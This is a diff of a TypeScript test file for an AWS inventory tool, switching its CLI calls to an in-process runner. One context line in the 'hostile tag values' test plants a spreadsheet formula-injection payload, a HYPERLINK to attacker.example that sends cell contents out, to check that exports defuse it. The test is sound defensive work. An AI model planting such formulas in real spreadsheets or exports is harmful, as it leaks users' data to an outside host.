@@ -12,7 +12,7 @@ import { inventoryHeaders } from '../src/inventory/columns.ts';
 import { assetFacts } from '../src/inventory/facts.ts';
 import { StreamedWorkbook } from '../src/inventory/xlsx.ts';
 import { fakeAwsEnv, startFakeAws, type FakeAggregator, type FakeAws } from './fake-aws.ts';
-import { onlyPack, runCli, sampleDir, tempDir } from './helpers.ts';
+import { onlyPack, runCliInProcess, sampleDir, tempDir } from './helpers.ts';
 
 /** The configuration items of the sample's snapshot files, read here on their own: what the inventory must list. */
 function sampleConfigurationItems(): { arn: string; account: string; type: string; tags: Record<string, string> }[] {
@@ -50,7 +50,7 @@ describe('the system inventory of a sample pack', () => {
 
   before(async () => {
     work = tempDir({ after: (fn) => process.on('exit', fn) });
-    const r = await runCli(['run', '--out', join(work, 'out'), '--no-pdf'], {});
+    const r = await runCliInProcess(['run', '--out', join(work, 'out'), '--no-pdf'], {});
     assert.equal(r.code, 0, r.stderr);
     pack = onlyPack(join(work, 'out'));
     csv = readCsv(join(pack, 'inventory.csv'));
@@ -141,7 +141,7 @@ describe('hostile tag values in the inventory', () => {
     const ws = snapshot.configurationItems.find((ci: { resourceId: string }) => ci.resourceId === 'ws-b8n3p5r2t');
     ws.tags = { ...ws.tags, Function: '=HYPERLINK("http://attacker.example/?x="&A1,"click")', Owner: '@SUM(1+1)' };
     writeFileSync(join(dir, file), JSON.stringify(snapshot));
-    const r = await runCli(['run', '--evidence', evidence, '--out', join(work, 'out'), '--no-pdf'], {});
+    const r = await runCliInProcess(['run', '--evidence', evidence, '--out', join(work, 'out'), '--no-pdf'], {});
     assert.equal(r.code, 0, r.stderr);
     const pack = onlyPack(join(work, 'out'));
     const row = readCsv(join(pack, 'inventory.csv')).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
@@ -224,9 +224,9 @@ describe('the inventory of an organization read through an aggregator (fake endp
   it('has rows for every account, each with its own owner tag', async (t) => {
     const work = tempDir(t);
     aws = await startFakeAws({ account: hub, regions: { 'us-east-1': {} }, aggregators: { 'org-all': aggregator } });
-    const c = await runCli(['collect', '--aggregator', 'org-all', '--region', 'us-east-1', '--organization', 'Org', '--out', join(work, 'evidence'), '--json'], fakeAwsEnv(aws.url));
+    const c = await runCliInProcess(['collect', '--aggregator', 'org-all', '--region', 'us-east-1', '--organization', 'Org', '--out', join(work, 'evidence'), '--json'], fakeAwsEnv(aws.url));
     assert.ok(c.code === 0 || c.code === 5, c.stderr);
-    const r = await runCli(['run', '--evidence', join(work, 'evidence'), '--out', join(work, 'out'), '--no-pdf'], { SOURCE_DATE_EPOCH: '1795000000' });
+    const r = await runCliInProcess(['run', '--evidence', join(work, 'evidence'), '--out', join(work, 'out'), '--no-pdf'], { SOURCE_DATE_EPOCH: '1795000000' });
     assert.equal(r.code, 0, r.stderr);
     const pack = onlyPack(join(work, 'out'));
     const rows = sheetRows((await readWorkbook(join(pack, 'inventory.xlsx'))).getWorksheet('Inventory')!).slice(1);
